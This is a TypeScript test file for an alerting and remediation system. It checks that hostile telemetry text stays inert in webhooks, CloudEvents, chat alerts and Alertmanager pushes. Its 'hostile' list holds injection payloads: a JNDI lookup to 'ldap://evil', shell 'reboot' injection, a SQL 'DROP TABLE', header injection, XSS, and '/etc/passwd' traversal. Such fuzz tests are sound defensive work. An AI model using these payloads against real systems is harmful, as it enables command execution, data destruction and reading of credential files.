// Text that came with telemetry, in every body that leaves: it stays text. Bodies keep their structure, headers their lines.
import { readdirSync, readFileSync } from "node:fs";
import { Webhook } from "standardwebhooks";
import { describe, expect, test } from "vitest";
import { loadConnectors, requestOf } from "../../src/act/connectors.ts";
import { remedyFor } from "../../src/act/remedy.ts";
import { cloudEventOf } from "../../src/deliver/cloud-event.ts";
import type { Notification } from "../../src/deliver/feeds/dispatcher.ts";
import { apiAlert } from "../../src/deliver/feeds/formats/alertmanager.ts";
import { formatNames, formatOf, renderFitting } from "../../src/deliver/feeds/formats/formats.ts";
import type { Action } from "../../src/model/action.ts";
import type { Evidence } from "../../src/model/evidence.ts";
import type { Diagnosis } from "../../src/model/incident.ts";
import type { OutgoingMessage } from "../../src/model/ports/notifier.ts";
import { proposal } from "../act/bench.ts";
import { alertOf } from "../deliver/feed-kit.ts";
import { answering, deliverTo, receiver, secret } from "../deliver/hook-kit.ts";
import { modes } from "../diagnose/fleet.ts";

const plain = "vllm-0";
/** Each tries another interpreter: templates, shells, JSON, headers, chats, pages, PromQL, SQL, terminals, paths. */
const hostile: readonly string[] = [
  "{{7*7}}{{.Values.secret}}{% include '/etc/passwd' %}",
  "${jndi:ldap://evil/a} ${{ secrets.TOKEN }} #{7*7} <%= 7*7 %>",
  "$(reboot) `reboot` ; reboot | reboot && reboot\n reboot",
  '"}],"action":"drain-node","target":"node:all","x":[{"y":"',
  'vllm-0","action":"drain-node',
  "a\r\nwebhook-id: other\r\nAuthorization: Bearer x\r\n\r\n{}",
  "<!channel> <!here> <@U012> @everyone <at>all</at> <http://evil|click> *bold* _it_ ~s~ `c` > q",
  "<script>alert(1)</script><img src=x onerror=alert(1)>&lt;![CDATA[",
  "[click](http://evil) ![x](http://evil/x.png) **b** # h | t |",
  'vllm-0"} or vector(1) or up{a="',
  "'; DROP TABLE actions; --",
  "\u001b[2J\u001b]8;;http://evil\u0007x\u0000\u202e\u2028\ufeff\ud800",
  "../../../../etc/passwd%00 %0d%0aSet-Cookie:a=b",
  "__proto__ constructor toString",
  "x".repeat(2000),
];

/** The same JSON with all text and numbers taken out: what an interpreter of the body would go by. */
function structure(value: unknown): unknown {
  if (Array.isArray(value)) return value.map(structure);
  if (typeof value !== "object" || value === null) return typeof value;
  return Object.fromEntries(Object.entries(value).map(([key, one]) => [key, structure(one)]));
}
const textsIn = (value: unknown): string[] =>
  typeof value === "string"
    ? [value]
    : typeof value === "object" && value !== null
      ? Object.values(value).flatMap(textsIn)
      : [];

const evidence = (text: string): Evidence => ({
  kind: "log",
  says: text,
  at: 0,
  entity: `replica:${text}`,
  subject: text,
});
function diagnosisOf(text: string): Diagnosis {
  const cause = {
    ...{ failureMode: "stuck-engine", code: "FM-01", title: text, probability: 0.9, location: `replica:${text}` },
    path: [{ id: "change", state: "seen", evidence: evidence(text) } as const],
    for: [evidence(text)],
    against: [evidence(text)],
  };
  return { id: "d1", incident: "i1", at: 0, causes: [cause], summary: text, falsifiedBy: text, path: cause.path };
}

const start = Date.parse("2026-03-02T10:00:00Z");
function notificationOf(text: string): Notification {
  const labels = { alertname: text, entity: `replica:${text}`, pod: text, severity: "page" };
  const annotations = { summary: text, description: text, diagnosis: text };
  return {
    receiver: "oncall",
    groupKey: `oncall:{}:{alertname=${JSON.stringify(text)}}`,
    groupLabels: { alertname: text },
    commonLabels: labels,
    commonAnnotations: annotations,
    status: "firing",
    alerts: [alertOf(labels, start, { annotations, url: "https://homeostat.example/a" })],
    at: start,
    before: undefined,
  };
}

const externalUrl = "https://homeostat.example";
const folder = new URL("../../rules/connectors/", import.meta.url);
const files = readdirSync(folder).map((name) => ({ name, text: readFileSync(new URL(name, folder), "utf8") }));
const { connectors } = loadConnectors(files);

describe.each(hostile.map((text) => [text.slice(0, 40), text] as const))("%j", (_shown, text) => {
  test("in a request for an action is a value, and the rest is as it was", () => {
    const about = (one: string): Partial<Action> => ({
      ...{ target: `replica:${one}`, domain: `replica:${one}`, why: one, incident: one, failureMode: one },
    });
    for (const connector of connectors)
      for (const kind of Object.keys(connector.serves) as Action["kind"][]) {
        const [good, bad] = [plain, text].map((one) => requestOf(proposal({ ...about(one), kind }).action, connector));
        const sent = JSON.parse(JSON.stringify(bad)) as OutgoingMessage;
        expect(structure(sent)).toEqual(structure(good));
        expect([sent.type, sent.receiver, sent.data["action"]]).toEqual([good!.type, good!.receiver, kind]);
      }
  });

  test("as the name of what is broken becomes no query and no action of another kind", () => {
    const mode = modes.find(({ id }) => id === "stuck-engine") ?? modes[0]!;
    const diagnosis = diagnosisOf(text);
    const cause = { ...diagnosis.causes[0]!, failureMode: mode.id, for: [evidence(text), evidence(plain)] };
    const remedy = remedyFor({ ...diagnosis, causes: [cause] }, mode, 0);
    const kinds = new Set<string>(mode.remedies.map(({ action }) => action));
    for (const action of remedy === undefined ? [] : [remedy.action, ...(remedy.otherwise ?? [])]) {
      expect(kinds).toContain(action.kind);
      for (const { expr } of action.verify) expect(expr).not.toContain(text.slice(0, 20));
      expect(textsIn(action.parameters).filter((one) => one.includes(text.slice(0, 20)))).toEqual([]);
    }
  });

  test("in a diagnosis that travels as a CloudEvent is a value", () => {
    const eventOf = (one: string) => {
      const data = { action: "restart-replica", target: `replica:${one}`, idempotencyKey: "k-1", why: one };
      const change = { action: "a-1", target: `replica:${one}` };
      const message = { id: "action-a-1", receiver: "ops", type: "action.requested", data, change };
      return JSON.parse(cloudEventOf({ ...message, diagnosis: diagnosisOf(one) }, start, externalUrl));
    };
    const event = eventOf(text);
    expect(structure(event)).toEqual(structure(eventOf(plain)));
    expect(event).toMatchObject({ id: "k-1", type: "io.homeostat.action.requested", source: externalUrl });
    expect(event.data.diagnosis.causes[0].against[0].says).toBe(JSON.parse(JSON.stringify(text)));
  });

  test.each(formatNames.filter((name) => name !== "alertmanager"))("in an alert as %s", (name) => {
    const format = formatOf(name, { channel: "C1", externalUrl });
    const open = { thread: "t", title: text, severity: "critical", source: text } as const;
    const render = (one: string) => renderFitting(format, notificationOf(one), "t", externalUrl);
    const update = (one: string) =>
      format.update({ kind: "diagnosed", text: one, url: `${externalUrl}/i` }, { ...open, title: one, source: one });
    for (const make of [render, update]) {
      const body = JSON.parse(JSON.stringify(make(text) ?? null));
      expect(structure(body)).toEqual(structure(make(plain) ?? null));
      const texts = textsIn(body);
      if (name.startsWith("slack")) {
        expect(texts.filter((one) => /<!|<@|<http:\/\/evil|@everyone|<script/.test(one))).toEqual([]);
        expect(texts.filter((one) => /[^\P{Cc}\n]|[\u202e\u2028]/u.test(one))).toEqual([]);
      }
      if (name === "teams")
        expect(texts.filter((one) => /<at>|<script|(?<!\\)\]\(http:\/\/evil/.test(one))).toEqual([]);
    }
  });

  test("in a push to Alertmanager's API is a value of a label that is allowed", () => {
    const alert = apiAlert(notificationOf(text).alerts[0]!, start);
    expect(structure(alert)).toEqual(structure(apiAlert(notificationOf(plain).alerts[0]!, start)));
  });

  test("on the wire adds no header, changes no signature, and arrives as it is", async () => {
    const { url, seen } = await receiver(answering(200));
    const { deliver } = deliverTo(url);
    const message = { id: "m-1", receiver: "ops", type: "action.escalated", data: { target: text, reason: text } };
    expect(await deliver.send({ ...message, lane: text })).toMatchObject({ kind: "delivered" });
    const { headers, body } = seen[0]!;
    expect(new Set(Object.keys(headers))).toEqual(
      new Set([
        ...["connection", "content-length", "content-type", "host", "user-agent"],
        ...["webhook-id", "webhook-signature", "webhook-timestamp"],
      ]),
    );
    const verified = new Webhook(secret).verify(body, headers as Record<string, string>);
    expect(verified).toMatchObject({ data: { target: JSON.parse(JSON.stringify(text)) } });
  });

  test("as the id of a message it is refused unless it is a plain identifier", async () => {
    const { url, seen } = await receiver(answering(200));
    const message = { receiver: "ops", type: "action.escalated", data: {} };
    expect(await deliverTo(url).deliver.send({ ...message, id: text })).toMatchObject({
      kind: "failed",
      reason: "the message id is not a plain identifier",
    });
    expect(seen).toEqual([]);
  });
});
